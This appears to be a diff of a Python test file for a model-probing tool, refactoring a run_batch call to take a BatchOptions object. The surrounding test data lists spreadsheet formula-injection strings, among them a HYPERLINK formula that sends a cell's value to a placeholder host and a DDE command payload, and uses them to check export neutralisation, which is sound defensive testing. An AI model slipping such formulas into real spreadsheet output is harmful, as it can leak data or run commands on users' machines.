@@ -20,6 +20,7 @@ from probe_ui.files.spreadsheet import FORMULA_STARTS, neutral, restore
 from probe_ui.presets import load_preset
 from probe_ui.runner import run_batch
 from probe_ui.store import Store, responses
+from probe_ui.runner import BatchOptions
 
 HOSTILE = ['=HYPERLINK("http://example.invalid/?q="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "'=already quoted"]
@@ -33,7 +34,7 @@ def hostile_db(tmp_path: Path) -> tuple[Path, list[int]]:
     preset = write_preset(tmp_path / "hostile.yaml", items)
     db = tmp_path / "probe-ui.db"
     store = Store(db)
-    run_batch(store, [load_preset(preset)], ["baseline/first"], run_name="r", progress=False)
+    run_batch(store, [load_preset(preset)], ["baseline/first"], BatchOptions(run_name="r", progress=False))
     with store.engine.begin() as c:  # replies as a hostile model would write them
         ids = [int(i) for i in c.execute(sa.select(responses.c.id).order_by(responses.c.id)).scalars()]
         for rid, text in zip(ids, HOSTILE):
